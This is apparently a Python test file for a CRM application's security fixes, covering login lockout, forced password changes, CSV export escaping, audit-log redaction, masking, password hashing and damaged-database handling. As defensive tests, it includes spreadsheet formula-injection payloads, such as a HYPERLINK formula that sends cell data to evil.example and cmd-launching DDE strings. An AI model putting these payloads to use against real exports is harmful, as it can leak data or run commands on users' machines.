"""Issue 19, "smaller holes": each test plays the attack and shows it fail.

1. the read-only login (another window has the file) locks out and is audited;
2. a password an administrator reset must be changed before any command;
3. CSV cells that a spreadsheet would run as formulas are escaped, xlsx holds values;
4. the audit log keeps which fields were filtered, never the text typed;
5. a duplicate ID number held by a customer the user may not see is not named;
6. masks show the last 4 characters only;
7. scrypt N=2^17 for new hashes, an older hash upgraded at the next login;
8. a damaged file is flagged by quick_check and never written to again.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import select

from crmdesk import cli
from crmdesk.core.models import AuditEntry, User
from crmdesk.core.services import accounts, sensitive
from crmdesk.core.services.customers import customers
from crmdesk.core.services.records import Filter, ListQuery
from crmdesk.errors import (
    AccountLocked,
    AuthError,
    DatabaseFileError,
    KnownError,
    ValidationError,
)
from crmdesk.exchange.exporter import ExportRequest, csv_cell, export
from crmdesk.storage import crypto
from crmdesk.storage.database import Database, open_database
from tests.child_process import held_open
from tests.conftest import FAST_KDF, PASSWORD, Users

ID_NUMBER = "11010519491231002X"


def _entries(db, action: str, username: str | None = None) -> list[AuditEntry]:  # type: ignore[no-untyped-def]
    with db.session() as s:
        stmt = select(AuditEntry).where(AuditEntry.action == action)
        if username is not None:
            stmt = stmt.where(AuditEntry.username == username)
        return list(s.execute(stmt).scalars())


# -- 1. every login path counts wrong passwords and is audited ------------------------------

@pytest.mark.sqlite_only("a read-only open of the .crmdb file beside a window that holds its lock")
def test_read_only_login_locks_out_and_is_audited(db_path: Path) -> None:
    """Before: 30 wrong guesses on a file opened read-only, then the right password
    worked, and nothing was recorded."""
    with held_open(db_path, "rw"):  # another window edits the file
        ro = open_database(db_path, read_only=True)
        try:
            outcomes = []
            for _ in range(30):
                try:
                    with ro.login_transaction() as s:
                        accounts.login(s, "staff1", "wrong-guess")
                except AccountLocked:
                    outcomes.append("locked")
                except AuthError:
                    outcomes.append("wrong")
            assert outcomes[:4] == ["wrong"] * 4 and set(outcomes[4:]) == {"locked"}
            with pytest.raises(AccountLocked), ro.login_transaction() as s:
                accounts.login(s, "staff1", PASSWORD)  # the right one, too late
            with pytest.raises(AuthError), ro.login_transaction() as s:
                accounts.login(s, "nobody", PASSWORD)
            with pytest.raises(AuthError), ro.login_transaction() as s:
                accounts.login(s, "staff2", "wrong-guess")
            with ro.login_transaction() as s:
                accounts.login(s, "staff2", PASSWORD)
            with pytest.raises(KnownError, match="read-only"):  # nothing else is written
                with ro.transaction():
                    pass
        finally:
            ro.close()
    db = open_database(db_path)
    try:
        assert len(_entries(db, "login_failed", "staff1")) == 4
        assert len(_entries(db, "lockout", "staff1")) == 1
        assert _entries(db, "login_failed", "nobody")
        assert _entries(db, "login", "staff2")
        with db.session() as s:
            staff1 = accounts.user_by_name(s, "staff1")
            assert staff1.locked_until is not None
    finally:
        db.close()


def test_every_command_counts_wrong_passwords(db_path: Path, tmp_path: Path, monkeypatch,  # type: ignore[no-untyped-def]
                                             capsys) -> None:
    monkeypatch.setenv("CRMDESK_PASSWORD", "wrong-guess")
    out = str(tmp_path / "export.csv")
    codes = [cli.main(["--lang", "en", *argv, "--user", "staff1"]) for argv in (
        ["list", str(db_path), "customer"], ["search", str(db_path), "张"],
        ["audit", "list", str(db_path)], ["export", str(db_path), out],
        ["show", str(db_path), "customer", "1"], ["list", str(db_path), "customer"])]
    assert codes == [2] * 6
    assert "locked" in capsys.readouterr().err
    monkeypatch.setenv("CRMDESK_PASSWORD", PASSWORD)
    assert cli.main(["--lang", "en", "list", str(db_path), "customer", "--user", "staff1"]) == 2
    db = open_database(db_path)
    try:
        assert len(_entries(db, "lockout", "staff1")) == 1
    finally:
        db.close()


# -- 2. a forced password change comes before anything else ----------------------------------

def _reset_staff1(db_path: Path, new: str) -> None:
    db = open_database(db_path)
    try:
        with db.transaction() as s:
            admin = accounts.login(s, "admin", PASSWORD)
            accounts.reset_password(s, admin, accounts.user_by_name(s, "staff1").id, new)
    finally:
        db.close()


def test_reset_password_must_be_changed_before_any_command(db_path: Path, tmp_path: Path,  # type: ignore[no-untyped-def]
                                                           monkeypatch, capsys) -> None:
    """Before: the administrator who set "temp-pass1" could work as staff1 at the command
    line (list, export ...) without staff1 ever choosing a password."""
    _reset_staff1(db_path, "temp-pass1")
    monkeypatch.setenv("CRMDESK_PASSWORD", "temp-pass1")
    capsys.readouterr()
    for argv in (["list", str(db_path), "customer"],
                 ["export", str(db_path), str(tmp_path / "export.csv")],
                 ["add", str(db_path), "customer", "name=冒名"]):
        assert cli.main(["--lang", "en", *argv, "--user", "staff1"]) == 2
        err = capsys.readouterr().err
        assert len(err.strip().splitlines()) == 1
        assert f"crmdesk user passwd {db_path} --user staff1 --password-stdin" in err
    assert not (tmp_path / "export.csv").exists()
    # the way out the message names: current password, then the new one, on stdin
    monkeypatch.delenv("CRMDESK_PASSWORD")
    monkeypatch.setattr("sys.stdin", io.StringIO("temp-pass1\nmy-own-pass1\n"))
    assert cli.main(["--lang", "en", "user", "passwd", str(db_path), "--user", "staff1",
                     "--password-stdin"]) == 0
    monkeypatch.setenv("CRMDESK_PASSWORD", "my-own-pass1")
    assert cli.main(["--lang", "en", "list", str(db_path), "customer", "--user", "staff1"]) == 0


def test_reset_password_must_be_changed_before_a_restore(db_path: Path, tmp_path: Path,  # type: ignore[no-untyped-def]
                                                         monkeypatch, capsys) -> None:
    from crmdesk.core.services import backups

    db = open_database(db_path)
    try:
        with db.transaction() as s:
            admin = accounts.login(s, "admin", PASSWORD)
        made = backups.create_backup(db, admin, folder=tmp_path / "b")
        with db.transaction() as s:
            other = accounts.create_user(s, admin, "admin2", "temp-pass1", "admin",
                                         must_change_password=True)
            assert other.must_change_password
    finally:
        db.close()
    monkeypatch.setenv("CRMDESK_PASSWORD", "temp-pass1")
    assert cli.main(["--lang", "en", "restore", str(made.path), "--to", str(db_path),
                     "--user", "admin2"]) == 2
    assert "crmdesk user passwd" in capsys.readouterr().err
    db = open_database(db_path)
    try:  # not restored: admin2 (made after the backup) is still there
        with db.session() as s:
            assert accounts.user_by_name(s, "admin2").must_change_password
    finally:
        db.close()


# -- 3. CSV injection -------------------------------------------------------------------------

@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Click")',
     '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+86 138 0013 8000", "'+86 138 0013 8000"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-12.50", "-12.50"),  # a negative amount stays a number
    ("+3", "+3"),
    ("张三", "张三"),
    ("a=b", "a=b"),
])
def test_csv_cell(value: str, written: str) -> None:
    assert csv_cell(value) == written


def test_csv_export_escapes_formulas_and_xlsx_holds_values(db, users, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Before: the CSV held =HYPERLINK(...) and @SUM(...) as they were, and Excel ran them."""
    payloads = {"name": '=HYPERLINK("http://evil.example","点这里")',
                "company": "@SUM(1+1)*cmd|' /C calc'!A0", "address": "-1+1+cmd|x!A0",
                "notes": "+1+1"}
    with db.transaction() as s:
        customers.create(s, users.staff1, dict(payloads))
    request = ExportRequest("customer", columns=list(payloads))
    export(db, users.staff1, request, tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[1] == ["'" + payloads[k] for k in payloads]
    export(db, users.staff1, request, tmp_path / "out.xlsx")
    with zipfile.ZipFile(tmp_path / "out.xlsx") as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
    import openpyxl

    values = next(openpyxl.load_workbook(tmp_path / "out.xlsx").active.iter_rows(
        min_row=2, values_only=True))
    assert list(values) == list(payloads.values())  # shown exactly as typed


def test_import_error_report_holds_values_not_formulas(tmp_path: Path) -> None:
    from crmdesk.exchange.error_report import write_error_report
    from crmdesk.exchange.import_types import RowProblem

    path = write_error_report(tmp_path / "problems.xlsx", [
        RowProblem(2, "手机", '=HYPERLINK("http://evil.example","x")', "not a phone")])
    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet


# -- 4. no free text of a filter in the audit log ---------------------------------------------

def test_filter_text_is_not_stored_in_the_audit_log(db, users, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Before: the export's entry held the quick filter (an ID number) and filter values."""
    from crmdesk.reports.engine import ReportRequest, build_report

    with db.transaction() as s:
        customers.create(s, users.staff1, {"name": "张三", "city": "北京市",
                                           "id_number": ID_NUMBER})
    query = ListQuery(filters=[Filter("city", "eq", "北京市-秘密")], text=ID_NUMBER)
    export(db, users.staff1, ExportRequest("customer", query=query), tmp_path / "x.csv")
    build_report(db, users.staff1, ReportRequest("customer-list", query=query),
                 tmp_path / "x.pdf")
    entries = _entries(db, "export") + _entries(db, "report")
    assert len(entries) == 2
    for entry in entries:
        stored = json.dumps([entry.params, entry.before, entry.after, entry.summary],
                            ensure_ascii=False, default=str)
        assert ID_NUMBER not in stored and "北京市-秘密" not in stored
    export_after = json.loads(_entries(db, "export")[0].after)
    assert export_after["filtered_fields"] == ["city"] and export_after["quick_filter"] is True
    report_after = json.loads(_entries(db, "report")[0].after)
    assert report_after["filters"] == {"filtered_fields": ["city"], "quick_filter": True}


# -- 5. a duplicate the user may not see is not named -----------------------------------------

def test_someone_elses_id_number_is_not_traced_to_its_customer(db, users) -> None:  # type: ignore[no-untyped-def]
    """Before: staff2 typing a stranger's ID number learnt "already belongs to customer
    C000001", i.e. who holds it."""
    with db.transaction() as s:
        held = customers.create(s, users.staff1, {"name": "甲", "id_number": ID_NUMBER})
    with pytest.raises(ValidationError) as refused, db.transaction() as s:
        customers.create(s, users.staff2, {"name": "乙", "id_number": ID_NUMBER})
    assert held.code not in refused.value.message and "甲" not in refused.value.message
    with pytest.raises(ValidationError, match=held.code), db.transaction() as s:
        customers.create(s, users.manager, {"name": "乙", "id_number": ID_NUMBER})


# -- 6. masks ---------------------------------------------------------------------------------

def test_masks_show_the_last_four_characters_only(db, users) -> None:  # type: ignore[no-untyped-def]
    """Before: 1101**********002X; the region digits plus the plaintext birthday left
    9-10 candidates per ID number."""
    assert sensitive.mask(ID_NUMBER) == "*" * 14 + "002X"
    assert sensitive.mask("6222021234567890123") == "*" * 15 + "0123"
    with db.transaction() as s:
        c = customers.create(s, users.staff1, {"name": "甲", "id_number": ID_NUMBER})
        assert customers.masked(users.staff1, c, "id_number") == "*" * 14 + "002X"


# -- 7. a slower password hash, upgraded at the next login ------------------------------------

def test_default_hash_cost_is_scrypt_2_17() -> None:
    assert crypto.KdfParams() == crypto.KdfParams(n=2**17, r=8, p=1)
    assert crypto.KdfParams(n=2**16).weaker_than(crypto.KdfParams())
    assert not crypto.KdfParams().weaker_than(crypto.KdfParams(n=2**16))


def test_an_older_hash_is_upgraded_at_the_next_login(db, users, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    stronger = crypto.KdfParams(n=FAST_KDF.n * 2, r=8, p=1)  # stands for 2^16 -> 2^17
    with db.session() as s:
        before = s.execute(select(User).where(User.username == "staff1")).scalar_one()
        old_params, changed_at = before.kdf_params, before.password_changed_at
    with db.transaction() as s:
        c = customers.create(s, users.staff1, {"name": "甲", "id_number": ID_NUMBER})
    monkeypatch.setattr(crypto, "DEFAULT_KDF", stronger)
    with pytest.raises(AuthError), db.transaction() as s:
        accounts.login(s, "staff1", "wrong-guess")  # a wrong password upgrades nothing
    with db.session() as s:
        assert accounts.user_by_name(s, "staff1").kdf_params == old_params
    with db.transaction() as s:
        actor = accounts.login(s, "staff1", PASSWORD)
    with db.session() as s:
        user = accounts.user_by_name(s, "staff1")
        assert user.kdf_params == stronger.encode() != old_params
        assert user.password_changed_at == changed_at  # not a password change
        # the re-wrapped data key still opens the values
        assert customers.plaintext(actor, s.get(type(c), c.id), "id_number") == ID_NUMBER
    login = _entries(db, "login", "staff1")[-1]
    assert json.loads(login.after) == {"kdf": stronger.encode()}
    with db.transaction() as s:  # and the next login needs the new hash only
        again = accounts.login(s, "staff1", PASSWORD)
    assert again.keyring is not None
    assert json.loads(_entries(db, "login", "staff1")[-1].after or "{}") == {}


def test_the_upgrade_is_rolled_back_with_its_login(db, users, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setattr(crypto, "DEFAULT_KDF", crypto.KdfParams(n=FAST_KDF.n * 2, r=8, p=1))
    with db.session() as s:
        old = accounts.user_by_name(s, "staff1").kdf_params
    with pytest.raises(RuntimeError), db.transaction() as s:
        accounts.login(s, "staff1", PASSWORD)
        raise RuntimeError("the session ends before its commit")
    with db.session() as s:
        assert accounts.user_by_name(s, "staff1").kdf_params == old


# -- 8. damaged files -------------------------------------------------------------------------

def _damage_an_index(path: Path, table: str = "audit_log") -> None:
    """Overwrite an index page that opening does not read: header, schema and the main
    tables stay sound, so only a full check (quick_check) finds it."""
    conn = sqlite3.connect(path)
    page_size = conn.execute("PRAGMA page_size").fetchone()[0]
    root = conn.execute("SELECT rootpage FROM sqlite_master WHERE type='index' AND "
                        "tbl_name=? ORDER BY rootpage DESC LIMIT 1", (table,)).fetchone()[0]
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    with path.open("r+b") as fh:
        fh.seek((root - 1) * page_size)
        fh.write(b"\x0d" + b"\xff" * (page_size - 1))


@pytest.mark.sqlite_only("damages a page of the .crmdb file")
def test_a_damaged_file_is_flagged_and_never_written(db_path: Path) -> None:
    _damage_an_index(db_path)
    db = open_database(db_path)  # opening alone does not see it
    try:
        damage = db.quick_check()
        assert damage
        assert db.damage == damage
        before = db_path.read_bytes()
        with pytest.raises(DatabaseFileError, match="damaged"), db.transaction() as s:
            s.add(AuditEntry())
        with pytest.raises(DatabaseFileError, match="damaged"), db.login_transaction() as s:
            accounts.login(s, "staff1", PASSWORD)
    finally:
        db.close()  # and no checkpoint into it either
    assert db_path.read_bytes() == before


@pytest.mark.sqlite_only("SQLite's PRAGMA integrity_check of the .crmdb file")
def test_a_check_that_is_cancelled_stops_and_finds_nothing(db_path: Path) -> None:
    """The window's full check of a big file runs for minutes; closing the file cancels
    it: it stops, and an interrupted check is no finding (the file is not flagged)."""
    from crmdesk.jobs import Cancelled, Job

    job = Job()
    job.cancel()
    db = open_database(db_path)
    try:
        with pytest.raises(Cancelled):
            db.quick_check(full=True, job=job)
        assert db.damage is None
        assert db.quick_check(full=True, job=Job()) is None  # not cancelled: it runs
    finally:
        db.close()


@pytest.mark.sqlite_only("SQLite's PRAGMA quick_check of the .crmdb file")
def test_info_runs_quick_check_and_says_so(db_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    """Before: `crmdesk info` printed the row counts of a damaged file and exited 0."""
    assert cli.main(["--lang", "en", "info", str(db_path)]) == 0
    assert "quick_check\tok" in capsys.readouterr().out
    _damage_an_index(db_path)
    assert cli.main(["--lang", "en", "info", str(db_path)]) == 2
    err = capsys.readouterr().err
    assert "damaged" in err and "Restore it from a backup" in err
    assert len(err.strip().splitlines()) == 1


@pytest.mark.sqlite_only("damages a page of the .crmdb file while it is open")
def test_damage_met_while_working_also_stops_writes(db_path: Path) -> None:
    _damage_an_index(db_path)
    db = open_database(db_path)
    try:
        with pytest.raises(DatabaseFileError), db.transaction() as s:
            accounts.login(s, "staff1", PASSWORD)  # its audit entry meets the damaged index
        assert db.damage
        with pytest.raises(DatabaseFileError, match="damaged"), db.transaction():
            pass
    finally:
        db.close()


def _index_disagrees_with_its_table(path: Path) -> None:
    """An index whose entries belong to another column: every page is sound, so
    quick_check passes it; only integrity_check compares an index with its table
    (the kind of damage 18 of 2,000 flipped-byte files had: ``make attacks``)."""
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA writable_schema = ON")
    conn.execute("UPDATE sqlite_master SET sql = 'CREATE INDEX ix_customers_email ON "
                 "customers (mobile)' WHERE name = 'ix_customers_email'")
    conn.commit()
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()


@pytest.mark.sqlite_only("breaks an index of the .crmdb file through PRAGMA writable_schema")
def test_the_window_check_finds_an_index_that_quick_check_passes(db: Database, users: Users,
                                                                 db_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    with db.transaction() as s:
        customers.create(s, users.staff1, {"name": "邮箱客户", "email": "a@example.com",
                                           "mobile": "13800138000"})
    db.close()
    _index_disagrees_with_its_table(db_path)
    reopened = open_database(db_path)
    try:
        assert reopened.quick_check() is None
        assert reopened.quick_check(full=True)
        assert reopened.damage is not None
    finally:
        reopened.close()
    assert cli.main(["--lang", "en", "info", str(db_path)]) == 0
    capsys.readouterr()
    assert cli.main(["--lang", "en", "info", "--full", str(db_path)]) == 2
    assert "damaged" in capsys.readouterr().err
